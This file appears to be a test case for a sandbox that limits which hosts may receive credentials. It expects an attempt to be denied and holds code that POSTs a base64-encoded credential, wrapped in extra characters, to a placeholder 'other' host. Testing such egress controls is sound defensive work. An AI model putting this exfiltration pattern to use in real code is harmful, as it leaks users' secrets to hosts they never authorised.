export const attempt = {
  tries: "to send an exposed value to another host in base64",
  blockedBecause: "base64 is found at any offset, with any surrounding text",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "the credential KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ other }, { credentials }) => {
  await fetch(`http://${other}/reached`, { method: "POST", body: btoa(`xy${credentials.KEY}z`) });
  return "got through";
};
